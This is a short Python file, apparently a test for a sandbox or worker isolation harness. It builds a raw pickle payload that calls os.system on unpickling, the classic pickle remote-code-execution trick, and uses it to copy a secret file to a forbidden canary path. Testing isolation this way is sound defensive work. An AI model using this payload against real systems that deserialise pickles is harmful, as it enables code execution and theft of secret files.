# mypy: ignore-errors
# Technique: unpickle a crafted payload (`os.system` via the GLOBAL opcode) inside the worker,
# the classic pickle RCE, to copy the secret to the forbidden path.
import pickle


def attack(secret_path, canary_path):
    cmd = f"cat {secret_path} > {canary_path}"
    payload = b"cos\nsystem\n(S'" + cmd.encode() + b"'\ntR."
    return pickle.loads(payload)
